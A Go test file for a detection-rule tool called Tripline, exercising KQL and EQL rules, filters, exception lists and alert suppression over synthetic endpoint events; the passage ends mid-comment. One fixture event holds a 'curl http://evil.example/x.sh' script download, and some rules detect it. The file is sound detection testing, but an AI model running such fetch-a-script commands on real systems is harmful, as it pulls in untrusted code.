package main

import (
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// kqlIndex is the index of every event of the KQL fixture.
const kqlIndex = "logs-endpoint.events.process-default"

// kqlEvents are the fixture's events, one per line, by id: a.ndjson holds e01-e03,
// b.ndjson.gz e04-e05, standard input e06-e08.
var kqlEvents = []string{
	// e01: Bash (capitalised), a failed password, a private address, port 22.
	`{"@timestamp":"2026-03-12T09:00:01.000Z","_index":"` + kqlIndex + `","_id":"e01","event":{"id":"e01","category":["process"],"type":["start"]},"host":{"name":"web-1"},"user":{"name":"root"},"process":{"name":"Bash","executable":"/bin/Bash","command_line":"/bin/Bash -c id"},"source":{"ip":"10.1.2.3"},"destination":{"port":22},"message":"Failed password for root from 10.1.2.3 port 22"}`,
	// e02: bash from /usr/bin, a public-key login.
	`{"@timestamp":"2026-03-12T09:00:02.000Z","_index":"` + kqlIndex + `","_id":"e02","event":{"id":"e02","category":["process"],"type":["start"]},"host":{"name":"web-2"},"user":{"name":"alice"},"process":{"name":"bash","executable":"/usr/bin/bash"},"source":{"ip":"192.168.1.5"},"destination":{"port":443},"message":"Accepted publickey for alice"}`,
	// e03: curl fetching a script.
	`{"@timestamp":"2026-03-12T09:00:03.000Z","_index":"` + kqlIndex + `","_id":"e03","event":{"id":"e03","category":["process"],"type":["start"]},"host":{"name":"build-1"},"user":{"name":"bob"},"process":{"name":"curl","executable":"/usr/local/bin/curl","command_line":"curl http://evil.example/x.sh"},"source":{"ip":"10.9.9.9"},"destination":{"port":8080},"message":"curl fetched a script"}`,
	// e04: BASH on the CI runner, as svc-backup, with PE sections.
	`{"@timestamp":"2026-03-12T09:00:04.000Z","_index":"` + kqlIndex + `","_id":"e04","event":{"id":"e04","category":["process"],"type":["start"]},"host":{"name":"ci-runner-1"},"user":{"name":"svc-backup"},"process":{"name":"BASH","executable":"/opt/BASH","pe":{"sections":[{"name":".text","entropy":7.9},{"name":".rsrc"}]}},"source":{"ip":"172.16.0.1"},"destination":{"port":3389}}`,
	// e05: bash under sshd, its port written as a string.
	`{"@timestamp":"2026-03-12T09:00:05.000Z","_index":"` + kqlIndex + `","_id":"e05","event":{"id":"e05","category":["process"],"type":["start"]},"host":{"name":"web-3"},"user":{"name":"carol"},"process":{"name":"bash","executable":"/bin/bash","parent":{"name":"sshd"}},"source":{"ip":"10.0.0.7"},"destination":{"port":"22"}}`,
	// e06: no process name.
	`{"@timestamp":"2026-03-12T09:00:06.000Z","_index":"` + kqlIndex + `","_id":"e06","event":{"id":"e06","category":["process"],"type":["start"]},"host":{"name":"web-1"},"user":{"name":"dave"},"process":{"executable":"/bin/true"},"source":{"ip":"8.8.8.8"},"destination":{"port":53}}`,
	// e07: bash packed with UPX (a nested PE section).
	`{"@timestamp":"2026-03-12T09:00:07.000Z","_index":"` + kqlIndex + `","_id":"e07","event":{"id":"e07","category":["process"],"type":["start"]},"host":{"name":"win-7"},"user":{"name":"erin"},"process":{"name":"bash","executable":"C:\\tools\\bash.exe","pe":{"sections":[{"name":".upx0","entropy":8}]}},"source":{"ip":"10.7.7.7"},"destination":{"port":445}}`,
	// e08: bash on web-9 (an expired exception item names it).
	`{"@timestamp":"2026-03-12T09:00:08.000Z","_index":"` + kqlIndex + `","_id":"e08","event":{"id":"e08","category":["process"],"type":["start"]},"host":{"name":"web-9"},"user":{"name":"frank"},"process":{"name":"bash","executable":"/bin/bash"},"source":{"ip":"10.8.8.8"},"destination":{"port":22}}`,
}

// kqlMapping adds a lowercase-normalised process.name.caseless to ECS, as Elastic Defend's
// indices have it.
const kqlMapping = `{"properties":{"process":{"properties":{"name":{"type":"keyword","ignore_above":1024,"fields":{"text":{"type":"match_only_text"},"caseless":{"type":"keyword","normalizer":"lowercase","ignore_above":1024}}}}}}}`

// kqlFixture writes the events (a.ndjson, b.ndjson.gz; e06-e08 are for standard input) and
// the mapping, and returns the directory, the event files and standard input.
func kqlFixture(t *testing.T) (dir string, files []string, stdin string) {
	t.Helper()
	dir = t.TempDir()
	a := writeFile(t, dir, "events/a.ndjson", strings.Join(kqlEvents[:3], "\n")+"\n")
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	zw.Write([]byte(strings.Join(kqlEvents[3:5], "\n") + "\n"))
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	b := filepath.Join(dir, "events", "b.ndjson.gz")
	if err := os.WriteFile(b, gz.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	writeFile(t, dir, "mapping.json", kqlMapping)
	return dir, []string{a, b, "-"}, strings.Join(kqlEvents[5:], "\n") + "\n"
}

// kqlRule is a query rule in KQL with rule_id id, name and query, and extra TOML after the
// query (filters, exceptions_list, alert_suppression).
func kqlRule(id, name, query, extra string) string {
	return `[rule]
author = ["Tripline"]
description = "` + name + `."
index = ["logs-*"]
language = "kuery"
name = "` + name + `"
risk_score = 21
rule_id = "` + id + `"
severity = "low"
type = "query"
query = '''
` + query + `
'''
` + extra
}

// eqlRule is an EQL rule, as kqlRule.
func eqlRule(id, name, query, extra string) string {
	return strings.Replace(strings.Replace(kqlRule(id, name, query, extra), `language = "kuery"`, `language = "eql"`, 1),
		`type = "query"`, `type = "eql"`, 1)
}

// ruleEvents returns "RULE_ID eNN" per alert of an NDJSON alert stream, sorted.
func ruleEvents(t *testing.T, ndjson string) []string {
	t.Helper()
	var out []string
	for _, a := range parseAlerts(t, ndjson) {
		out = append(out, a.RuleID+" "+a.key())
	}
	slices.Sort(out)
	return out
}

// TestDetectQueryRuleFieldTypes runs query rules over several files, a gzip one and
// standard input, and checks which events each matches, per field type: keyword exact and
// case-sensitive, .caseless lowercased, text analysed (a token, a phrase), wildcard fields,
// ip with CIDR, a number given as a string; and that a value a long cannot take is a type
// error that skips the rule, with Elasticsearch's reason.
func TestDetectQueryRuleFieldTypes(t *testing.T) {
	dir, files, stdin := kqlFixture(t)
	rules := filepath.Join(dir, "rules")
	for _, r := range []struct{ id, name, query string }{
		{"k-keyword", "Keyword", `process.name:bash`},
		{"k-caseless", "Caseless", `process.name.caseless:bash`},
		{"k-text", "Text", `message:password or message:"publickey for alice"`},
		{"k-wildcard", "Wildcard field", `process.command_line:*evil.example*`},
		{"k-cidr", "CIDR", `source.ip:10.0.0.0/8 and not source.ip:10.7.0.0/16`},
		{"k-number", "Number as string", `destination.port:"22"`},
		{"k-range", "Range", `destination.port >= 1024 and destination.port < 5000`},
		{"k-type-error", "Type error", `destination.port:ssh`},
	} {
		writeFile(t, rules, r.id+".toml", kqlRule(r.id, r.name, r.query, ""))
	}
	args := append([]string{"detect", "--rules", rules, "--mapping", "ecs", "--mapping", filepath.Join(dir, "mapping.json"), "--now", fixedNow}, files...)
	r := runCLI(t, stdin, args...)
	if r.code != exitSkipped {
		t.Errorf("exit %d, want 3 (a rule was skipped)", r.code)
	}
	want := []string{
		"k-caseless e01", "k-caseless e02", "k-caseless e04", "k-caseless e05", "k-caseless e07", "k-caseless e08",
		"k-cidr e01", "k-cidr e03", "k-cidr e05", "k-cidr e08",
		"k-keyword e02", "k-keyword e05", "k-keyword e07", "k-keyword e08",
		"k-number e01", "k-number e05", "k-number e08",
		"k-range e04",
		"k-text e01", "k-text e02",
		"k-wildcard e03",
	}
	if got := ruleEvents(t, r.stdout); !slices.Equal(got, want) {
		t.Errorf("alerts:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	wantSummary := "rules:  7 loaded, 1 skipped\n" +
		"            1 failed to create query: For input string: \"ssh\", in " + filepath.Join(rules, "k-type-error.toml") + "\n" +
		"events: 8 read, 0 malformed (skipped), 0 unused (no timestamp or too late), 0 without index\n"
	if !strings.HasPrefix(r.stderr, wantSummary) {
		t.Errorf("summary:\n%s\nwant it to start with:\n%s", r.stderr, wantSummary)
	}
}

// TestDetectQueryRuleAlerts checks the alert document of a query rule: its id (as Kibana
// computes it for an event alert), the rule type, type id, category and parameters.
func TestDetectQueryRuleAlerts(t *testing.T) {
	dir, files, _ := kqlFixture(t)
	const ruleID = "0c1d2e3f-4a5b-4c6d-8e7f-90a1b2c3d4e5"
	rules := writeFile(t, dir, "rules/curl.toml", kqlRule(ruleID, "Curl fetching a script", `process.name:curl and process.command_line:*.sh`, ""))
	r := runCLI(t, "", "detect", "--rules", rules, "--now", fixedNow, files[0])
	if r.code != exitOK {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	var got []map[string]any
	for _, l := range lines(r.stdout) {
		var a map[string]any
		if err := json.Unmarshal([]byte(l), &a); err != nil {
			t.Fatal(err)
		}
		got = append(got, a)
	}
	if len(got) != 1 {
		t.Fatalf("%d alerts, want 1:\n%s", len(got), r.stdout)
	}
	a := got[0]
	sum := sha256.Sum256([]byte(kqlIndex + "e03" + "undefined" + "default" + ":" + ruleID))
	params, _ := a["kibana.alert.rule.parameters"].(map[string]any)
	for _, c := range []struct {
		field string
		got   any
		want  any
	}{
		{"kibana.alert.uuid", a["kibana.alert.uuid"], hex.EncodeToString(sum[:])},
		{"kibana.alert.rule.type", a["kibana.alert.rule.type"], "query"},
		{"kibana.alert.rule.rule_type_id", a["kibana.alert.rule.rule_type_id"], "siem.queryRule"},
		{"kibana.alert.rule.category", a["kibana.alert.rule.category"], "Custom Query Rule"},
		{"kibana.alert.rule.rule_id", a["kibana.alert.rule.rule_id"], ruleID},
		{"kibana.alert.rule.uuid", a["kibana.alert.rule.uuid"], ruleID},
		{"kibana.alert.rule.parameters.type", params["type"], "query"},
		{"kibana.alert.rule.parameters.language", params["language"], "kuery"},
		{"kibana.alert.rule.parameters.query", params["query"], "process.name:curl and process.command_line:*.sh\n"},
		{"kibana.alert.original_event.id", a["kibana.alert.original_event.id"], "e03"},
		{"kibana.alert.ancestors.0.id", a["kibana.alert.ancestors"].([]any)[0].(map[string]any)["id"], "e03"},
		{"kibana.alert.ancestors.0.index", a["kibana.alert.ancestors"].([]any)[0].(map[string]any)["index"], kqlIndex},
		{"kibana.alert.group.id", a["kibana.alert.group.id"], nil},
	} {
		if c.got != c.want {
			t.Errorf("%s = %#v, want %#v", c.field, c.got, c.want)
		}
	}
}

// filtersTOML is the filter of the corpus's rules: a negated case-insensitive wildcard,
// here on process.executable.
const filtersTOML = `
[[rule.filters]]
[rule.filters.meta]
negate = true
[rule.filters.query.wildcard."process.executable"]
case_insensitive = true
value = "/USR/*"
`

// TestDetectRuleFilters checks that a rule's filters restrict a KQL rule and an EQL rule
// alike: the negated case-insensitive wildcard leaves e02 (/usr/bin/bash) out of both, and
// e03 (/usr/local/bin/curl) out of neither, since neither query matches it.
func TestDetectRuleFilters(t *testing.T) {
	dir, files, stdin := kqlFixture(t)
	rules := filepath.Join(dir, "rules")
	writeFile(t, rules, "kql.toml", kqlRule("f-kql", "KQL with filters", `process.name.caseless:bash`, filtersTOML))
	writeFile(t, rules, "eql.toml", eqlRule("f-eql", "EQL with filters", `process where process.name : "bash"`, filtersTOML))
	writeFile(t, rules, "plain.toml", kqlRule("f-plain", "KQL without filters", `process.name.caseless:bash`, ""))
	args := append([]string{"detect", "--rules", rules, "--mapping", "ecs", "--mapping", filepath.Join(dir, "mapping.json"), "--now", fixedNow}, files...)
	r := runCLI(t, stdin, args...)
	if r.code != exitOK {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	want := []string{
		"f-eql e01", "f-eql e04", "f-eql e05", "f-eql e07", "f-eql e08",
		"f-kql e01", "f-kql e04", "f-kql e05", "f-kql e07", "f-kql e08",
		"f-plain e01", "f-plain e02", "f-plain e04", "f-plain e05", "f-plain e07", "f-plain e08",
	}
	if got := ruleEvents(t, r.stdout); !slices.Equal(got, want) {
		t.Errorf("alerts:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

// exceptionsExport is an exception list export: the list, one item per entry type, and the
// export's summary line.
var exceptionsExport = strings.Join([]string{
	`{"_version":"WzEsMV0=","created_at":"2026-03-01T08:00:00.000Z","created_by":"elastic","description":"Test exceptions","id":"7d3c2b1a-0000-4000-8000-000000000001","immutable":false,"list_id":"tripline-tests","name":"Tripline tests","namespace_type":"single","os_types":[],"tags":[],"tie_breaker_id":"7d3c2b1a-0000-4000-8000-0000000000aa","type":"detection","updated_at":"2026-03-01T08:00:00.000Z","updated_by":"elastic","version":1}`,
	exceptionItem("web-1", `[{"field":"host.name","operator":"included","type":"match","value":"web-1"}]`, ""),
	exceptionItem("bob", `[{"field":"user.name","operator":"included","type":"match_any","value":["bob","nobody"]}]`, ""),
	exceptionItem("usr-bin", `[{"field":"process.executable","operator":"included","type":"wildcard","value":"/usr/bin/*"}]`, ""),
	exceptionItem("has-parent", `[{"field":"process.parent.name","operator":"included","type":"exists"}]`, ""),
	// Events on the CI runner unless the user is svc-backup.
	exceptionItem("ci-runner", `[{"field":"host.name","operator":"included","type":"match","value":"ci-runner-1"},{"field":"user.name","operator":"excluded","type":"match","value":"svc-backup"}]`, ""),
	exceptionItem("upx", `[{"field":"process.pe.sections","type":"nested","entries":[{"field":"name","operator":"included","type":"match","value":".upx0"}]}]`, ""),
	exceptionItem("expired", `[{"field":"host.name","operator":"included","type":"match","value":"web-9"}]`, `"expire_time":"2026-01-01T00:00:00.000Z",`),
	`{"exported_exception_list_count":1,"exported_exception_list_item_count":7,"missing_exception_list_item_count":0,"missing_exception_list_items":[],"missing_exception_lists":[],"missing_exception_lists_count":0}`,
}, "\n") + "\n"

func exceptionItem(id, entries, extra string) string {
	return `{"_version":"WzIsMV0=","comments":[],"created_at":"2026-03-01T08:01:00.000Z","created_by":"elastic","description":"","entries":` + entries + `,` + extra +
		`"id":"item-` + id + `","item_id":"` + id + `","list_id":"tripline-tests","name":"` + id + `","namespace_type":"single","os_types":[],"tags":[],"tie_breaker_id":"tb-` + id + `","type":"simple","updated_at":"2026-03-01T08:01:00.000Z","updated_by":"elastic"}`
}

// exceptionsListTOML references the test list.
const exceptionsListTOML = `
[[rule.exceptions_list]]
id = "7d3c2b1a-0000-4000-8000-000000000001"
list_id = "tripline-tests"
namespace_type = "single"
type = "detection"
`

// TestDetectExceptionLists applies an exception list export to a KQL rule and an EQL rule:
// match (e01), match_any (e03), wildcard (e02), exists (e05), an item with an excluded entry
// that leaves e04 in (its user is svc-backup), nested (e07), and an expired item that
// excludes nothing (e08 stays). A rule referencing a list that was not loaded is skipped with
// the reason. The same list inside a Kibana rule export given to --rules applies too.
func TestDetectExceptionLists(t *testing.T) {
	dir, files, stdin := kqlFixture(t)
	rules := filepath.Join(dir, "rules")
	exports := writeFile(t, dir, "exceptions.ndjson", exceptionsExport)
	const kqlQuery, eqlQuery = `process.name.caseless:bash or process.name:curl`, `process where process.name : ("bash", "curl")`
	writeFile(t, rules, "kql.toml", kqlRule("x-kql", "KQL with exceptions", kqlQuery, exceptionsListTOML))
	writeFile(t, rules, "eql.toml", eqlRule("x-eql", "EQL with exceptions", eqlQuery, exceptionsListTOML))
	writeFile(t, rules, "missing.toml", kqlRule("x-missing", "Missing list", kqlQuery, strings.ReplaceAll(exceptionsListTOML, `list_id = "tripline-tests"`, `list_id = "no-such-list"`)))
	mapping := []string{"--mapping", "ecs", "--mapping", filepath.Join(dir, "mapping.json")}
	args := append(append([]string{"detect", "--rules", rules, "--exceptions", exports, "--now", fixedNow}, mapping...), files...)
	r := runCLI(t, stdin, args...)
	if r.code != exitSkipped {
		t.Errorf("exit %d, want 3 (a rule was skipped)", r.code)
	}
	want := []string{"x-eql e04", "x-eql e08", "x-kql e04", "x-kql e08"}
	if got := ruleEvents(t, r.stdout); !slices.Equal(got, want) {
		t.Errorf("alerts:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	wantSummary := "rules:  2 loaded, 1 skipped\n" +
		"            1 exception list \"no-such-list\" (namespace_type single, type detection) is not loaded (load it with --exceptions), in " + filepath.Join(rules, "missing.toml") + "\n"
	if !strings.HasPrefix(r.stderr, wantSummary) {
		t.Errorf("summary:\n%s\nwant it to start with:\n%s", r.stderr, wantSummary)
	}

	// Without --exceptions, both rules are skipped.
	args = append(append([]string{"detect", "--rules", filepath.Join(rules, "kql.toml"), "--rules", filepath.Join(rules, "eql.toml"), "--now", fixedNow}, mapping...), files...)
	runCLI(t, stdin, args...).check(t, exitUsage, "", "tripline: rules skipped:\n"+
		"      2 exception list \"tripline-tests\" (namespace_type single, type detection) is not loaded (load it with --exceptions)\n"+
		"tripline: none of the rules can run (2 skipped: see 'tripline rules list')\n")

	// A Kibana rule export carrying its list and items.
	rule := `{"id":"5e6f7a8b-0000-4000-8000-000000000001","rule_id":"x-export","name":"Exported rule","description":"d","type":"query","language":"kuery","query":"` + kqlQuery + `","risk_score":21,"severity":"low","index":["logs-*"],"exceptions_list":[{"id":"7d3c2b1a-0000-4000-8000-000000000001","list_id":"tripline-tests","namespace_type":"single","type":"detection"}]}`
	lists := strings.Split(strings.TrimSuffix(exceptionsExport, "\n"), "\n")
	export := writeFile(t, dir, "export/rules_export.ndjson", rule+"\n"+strings.Join(lists[:len(lists)-1], "\n")+"\n"+`{"exported_count":9,"exported_rules_count":1,"missing_rules":[],"missing_rules_count":0,"exported_exception_list_count":1,"exported_exception_list_item_count":7,"missing_exception_list_item_count":0,"missing_exception_list_items":[],"missing_exception_lists":[],"missing_exception_lists_count":0}`+"\n")
	args = append(append([]string{"detect", "--rules", export, "--now", fixedNow}, mapping...), files...)
	r = runCLI(t, stdin, args...)
	if r.code != exitOK {
		t.Fatalf("rule export: exit %d: %s", r.code, r.stderr)
	}
	if got, want := ruleEvents(t, r.stdout), []string{"x-export e04", "x-export e08"}; !slices.Equal(got, want) {
		t.Errorf("rule export: alerts:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}

	// A broken line of an exceptions file is reported with its place, and the run exits 3.
	broken := writeFile(t, dir, "broken.ndjson", exceptionsExport+`{"item_id":"bad","list_id":"tripline-tests","namespace_type":"single","type":"simple","entries":[]}`+"\n")
	args = append(append([]string{"detect", "--rules", filepath.Join(rules, "kql.toml"), "--exceptions", broken, "--now", fixedNow, "--format", "summary"}, mapping...), files...)
	r = runCLI(t, stdin, args...)
	wantErr := "tripline: exception list file " + broken + ":10: item bad: entries: Array must contain at least 1 element(s) (unreadable)\n"
	if r.code != exitSkipped || r.stderr != wantErr || !strings.HasPrefix(r.stdout, "rules:  1 loaded, 0 skipped, 1 exception list error (see above)\n") {
		t.Errorf("broken exceptions file: exit %d, stderr:\n%s\nstdout:\n%s\nwant exit 3, stderr:\n%s", r.code, r.stderr, r.stdout, wantErr)
	}
	// A missing exceptions file likewise.
	nope := filepath.Join(dir, "nope.ndjson")
	args = append(append([]string{"detect", "--rules", filepath.Join(rules, "kql.toml"), "--exceptions", exports, "--exceptions", nope, "--now", fixedNow, "--format", "summary"}, mapping...), files...)
	r = runCLI(t, stdin, args...)
	if wantErr := "tripline: exception list file " + nope + ": no such file or directory (unreadable)\n"; r.code != exitSkipped || r.stderr != wantErr {
		t.Errorf("missing exceptions file: exit %d, stderr:\n%s\nwant exit 3, stderr:\n%s", r.code, r.stderr, wantErr)
	}
}

// TestDetectQueryRuleSuppression runs a query rule with alert_suppression over the
// suppression test's events: the alerts carry Kibana's kibana.alert.suppression fields.
func TestDetectQueryRuleSuppression(t *testing.T) {
	dir := t.TempDir()
	events := writeFile(t, dir, "events.ndjson", suppEventsNDJSON())
	rule := strings.Replace(strings.Replace(suppRule("duration = {value = 5, unit = \"m\"}\n"),
		`type = "eql"`, `type = "query"`, 1), `language = "eql"`, `language = "kuery"`, 1)
	rule = strings.Replace(rule, `query = 'process where event.type == "start"'`, `query = 'event.type:start and process.name:sh'`, 1)
	rules := writeFile(t, dir, "rule.toml", rule)
	r := runCLI(t, "", "detect", "--rules", rules, "--now", fixedNow, "--stats", events)
	if r.code != exitOK {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	var got []string
	for _, l := range lines(r.stdout) {
		a := new(suppAlert)
		if err := json.Unmarshal([]byte(l), a); err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(l, `"kibana.alert.rule.type":"query"`) {
			t.Errorf("alert %s is not a query rule's", a.UUID)
		}
		got = append(got, a.describe())
	}
	slices.Sort(got)
	want := []string{
		"e1 id-ok " + instH1 + ` [host.name=["h1"]] 2026-03-12T10:00:00.000Z..2026-03-12T10:05:00.000Z docs=2`,
		"e3 id-ok " + instH2 + ` [host.name=["h2"]] 2026-03-12T10:03:00.000Z..2026-03-12T10:03:00.000Z docs=0`,
		"e5 id-ok " + instH1 + ` [host.name=["h1"]] 2026-03-12T10:05:00.001Z..2026-03-12T10:05:00.001Z docs=0`,
		"e6 id-ok " + instNull + ` [host.name=null] 2026-03-12T10:01:00.000Z..2026-03-12T10:06:00.000Z docs=1`,
	}
	if !slices.Equal(got, want) {
		t.Errorf("alerts:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if !strings.Contains(r.stderr, `"suppressed":3`) {
		t.Errorf("summary does not say 3 suppressed:\n%s", r.stderr)
	}
}

// TestQueryKQL runs query --language kuery (and its alias kql) over files, a gzip file and
// standard input, with the same flags as EQL queries, and checks KQL's errors.
func TestQueryKQL(t *testing.T) {
	dir, files, stdin := kqlFixture(t)
	mapping := []string{"--mapping", "ecs", "--mapping", filepath.Join(dir, "mapping.json")}
	ids := func(ndjson string) []string {
		var out []string
		for _, l := range lines(ndjson) {
			var ev struct {
				Event struct{ ID string } `json:"event"`
			}
			if err := json.Unmarshal([]byte(l), &ev); err != nil {
				t.Fatal(err)
			}
			out = append(out, ev.Event.ID)
		}
		return out
	}
	for _, c := range []struct {
		name  string
		args  []string
		want  []string
		stats string
	}{
		{"caseless, files and stdin", append(append([]string{"query", "--language", "kuery"}, mapping...), append([]string{`process.name.caseless:bash and not host.name:web-1`}, files...)...),
			[]string{"e02", "e04", "e05", "e07", "e08"}, "8 records read, 0 skipped, 5 results; pending state at the end 0, peak 5\n"},
		{"alias kql, --size head", append(append([]string{"query", "--language", "kql", "--size", "2", "--result-position", "head"}, mapping...), append([]string{`source.ip:10.0.0.0/8`}, files...)...),
			[]string{"e01", "e03"}, "8 records read, 0 skipped, 2 results; pending state at the end 3, peak 5\n"},
		{"stdin alone, dynamic mapping", []string{"query", "--language", "kuery", `user.name:(dave or erin)`},
			[]string{"e06", "e07"}, "3 records read, 0 skipped, 2 results; pending state at the end 0, peak 2\n"},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := runCLI(t, stdin, c.args...)
			if r.code != exitOK || r.stderr != c.stats {
				t.Errorf("exit %d, stderr %q; want 0, %q", r.code, r.stderr, c.stats)
			}
			if got := ids(r.stdout); !slices.Equal(got, c.want) {
				t.Errorf("events %v, want %v", got, c.want)
			}
		})
	}
	runCLICases(t, []cliCase{
		{
			name: "syntax error: Kibana's message and a caret",
			args: []string{"query", "--language", "kuery", `process.name:(bash or `, files[0]},
			code: exitUsage,
			stderr: "error: line 1:23: Expected \"(\", NOT, value but end of input found.\n" +
				"process.name:(bash or \n" +
				"----------------------^\n",
		},
		{
			name:   "type error",
			args:   append(append([]string{"query", "--language", "kuery"}, mapping...), `destination.port:ssh`, files[0]),
			code:   exitUsage,
			stderr: "error: failed to create query: For input string: \"ssh\"\n",
		},
		{
			name:   "unknown language",
			args:   []string{"query", "--language", "sql", `x`, files[0]},
			code:   exitUsage,
			stderr: "tripline: unknown --language \"sql\" (want eql, kuery or kql)\n",
		},
	})
}

// kqlRuleSet writes query rules for rules validate and list: one that runs, a syntax error
// (line 2 of the query, line 13 of the file), a type error, filters that cannot be read, a
// list that is not loaded, and an EQL rule.
func kqlRuleSet(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	const two = "process.name:bash and\n  source.ip:10.0.0.0/8"
	writeFile(t, dir, "a_ok.toml", kqlRule("v-ok", "Runs", two, ""))
	writeFile(t, dir, "b_syntax.toml", kqlRule("v-syntax", "Syntax error", "process.name:bash and\n  source.ip:10.0.0.0/8)", ""))
	writeFile(t, dir, "c_type.toml", kqlRule("v-type", "Type error", "destination.port:ssh", ""))
	writeFile(t, dir, "d_filter.toml", kqlRule("v-filter", "Script filter", two, `
[[rule.filters]]
[rule.filters.meta]
negate = false
[rule.filters.query.script.script]
source = "true"
`))
	writeFile(t, dir, "e_missing.toml", kqlRule("v-missing", "Missing list", two, strings.ReplaceAll(exceptionsListTOML, `list_id = "tripline-tests"`, `list_id = "no-such-list"`)))
	writeFile(t, dir, "f_eql.toml", eqlRule("v-eql", "EQL", `process where process.name == "bash"`, ""))
	return dir
}

// TestRulesValidateKQL checks rules validate and rules list over query rules: status ok
// with language kuery for the rule detect runs, errors with the reason (and the position in
// the file of a syntax error) for the others.
func TestRulesValidateKQL(t *testing.T) {
	dir := kqlRuleSet(t)
	p := func(name string) string { return filepath.Join(dir, name) }
	missing := `exception list \"no-such-list\" (namespace_type single, type detection) is not loaded (load it with --exceptions)`
	runCLICases(t, []cliCase{
		{
			name: "json",
			args: []string{"rules", "validate", "--format", "json", dir},
			code: exitFailure,
			stdout: `{"file":"` + p("a_ok.toml") + `","rule_id":"v-ok","name":"Runs","type":"query","language":"kuery","status":"ok","error":""}` + "\n" +
				`{"file":"` + p("b_syntax.toml") + `","rule_id":"v-syntax","name":"Syntax error","type":"query","language":"kuery","status":"error","error":"line 2:23: Expected AND, OR, end of input, whitespace but \")\" found.","line":13,"column":23}` + "\n" +
				`{"file":"` + p("c_type.toml") + `","rule_id":"v-type","name":"Type error","type":"query","language":"kuery","status":"error","error":"failed to create query: For input string: \"ssh\""}` + "\n" +
				`{"file":"` + p("d_filter.toml") + `","rule_id":"v-filter","name":"Script filter","type":"query","language":"kuery","status":"error","error":"filters: filters[0].query.script: [script] queries are not supported"}` + "\n" +
				`{"file":"` + p("e_missing.toml") + `","rule_id":"v-missing","name":"Missing list","type":"query","language":"kuery","status":"error","error":"` + missing + `"}` + "\n" +
				`{"file":"` + p("f_eql.toml") + `","rule_id":"v-eql","name":"EQL","type":"eql","language":"eql","status":"ok","error":""}` + "\n",
		},
		{
			name: "text",
			args: []string{"rules", "validate", dir},
			code: exitFailure,
			stdout: "ok           " + p("a_ok.toml") + "\n" +
				"error        " + p("b_syntax.toml") + ":13:23: line 2:23: Expected AND, OR, end of input, whitespace but \")\" found.\n" +
				"error        " + p("c_type.toml") + ": failed to create query: For input string: \"ssh\"\n" +
				"error        " + p("d_filter.toml") + ": filters: filters[0].query.script: [script] queries are not supported\n" +
				"error        " + p("e_missing.toml") + ": " + strings.ReplaceAll(missing, `\"`, `"`) + "\n" +
				"ok           " + p("f_eql.toml") + "\n" +
				"\n2 rules ok (1 eql, 1 query), 4 with errors, 0 of types Tripline does not run (6 files read)\n",
		},
		{
			name: "the list loaded",
			args: []string{"rules", "validate", "--exceptions", writeFile(t, t.TempDir(), "lists.ndjson",
				strings.ReplaceAll(exceptionsExport, `"list_id":"tripline-tests"`, `"list_id":"no-such-list"`)), p("e_missing.toml")},
			stdout: "ok           " + p("e_missing.toml") + "\n\n1 rule ok (1 query), 0 with errors, 0 of types Tripline does not run (1 file read)\n",
		},
		{
			name:   "a type error depends on the mapping",
			args:   []string{"rules", "validate", "--mapping", "none", p("c_type.toml")},
			stdout: "ok           " + p("c_type.toml") + "\n\n1 rule ok (1 query), 0 with errors, 0 of types Tripline does not run (1 file read)\n",
		},
		{
			name: "list",
			args: []string{"rules", "list", dir},
			stdout: "RULE ID    NAME           TYPE         SEVERITY  SUPPORTED\n" +
				"v-ok       Runs           query/kuery  low       yes\n" +
				"v-syntax   Syntax error   query/kuery  low       no: query: line 2:23: Expected AND, OR, end of input, whitespace but \")\" found.\n" +
				"v-type     Type error     query/kuery  low       no: failed to create query: For input string: \"ssh\"\n" +
				"v-filter   Script filter  query/kuery  low       no: filters: filters[0].query.script: [script] queries are not supported\n" +
				"v-missing  Missing list   query/kuery  low       no: " + strings.ReplaceAll(missing, `\"`, `"`) + "\n" +
				"v-eql      EQL            eql/eql      low       yes\n",
		},
	})
}

// TestRulesTestQueryRule runs rules test on a query rule with a filter and an exception
// list: the events its search (query, filter and exceptions) lets through, and the results.
func TestRulesTestQueryRule(t *testing.T) {
	dir, files, stdin := kqlFixture(t)
	rule := writeFile(t, dir, "rule.toml", kqlRule("t-kql", "Bash from a private address", `process.name:bash and source.ip:10.0.0.0/8`, `
[[rule.filters]]
[rule.filters.meta]
negate = true
[rule.filters.query.wildcard."process.executable"]
case_insensitive = true
value = "C:\\\\*"
`+exceptionsListTOML))
	lists := writeFile(t, dir, "lists.ndjson", exceptionsExport)
	r := runCLI(t, stdin, append([]string{"rules", "test", "--exceptions", lists, rule}, files...)...)
	want := "rule:   Bash from a private address (t-kql)\n" +
		"events: 8 read\n" +
		"\n" +
		`stage 1: [any where kuery("process.name:bash and source.ip:10.0.0.0/8\n") and filters+exceptions("[{\"meta\":{\"negate\":true},\"query\":{\"wildcard\":{\"process.executable\":{\"case_insensitive\":true,\"value\":\"C:\\\\\\\\*\"}}}}] tripline-tests")]` + "\n" +
		"  1 event passed the filter\n" +
		"    -:3  2026-03-12T09:00:08.000Z\n" +
		"\n" +
		"1 result\n" +
		"  #1\n" +
		"    stage 1  -:3\n"
	r.check(t, exitOK, want, "")
	// Without the list, the rule cannot run.
	r = runCLI(t, stdin, append([]string{"rules", "test", rule}, files...)...)
	r.check(t, exitUsage, "", "error: exception list \"tripline-tests\" (namespace_type single, type detection) is not loaded (load it with --exceptions)\n")
}

// TestExampleKQLRule runs examples/kql as the README does: without its exception list the
// rule is skipped with the reason; with it, inventory-api's read (a08) is excluded, Argo
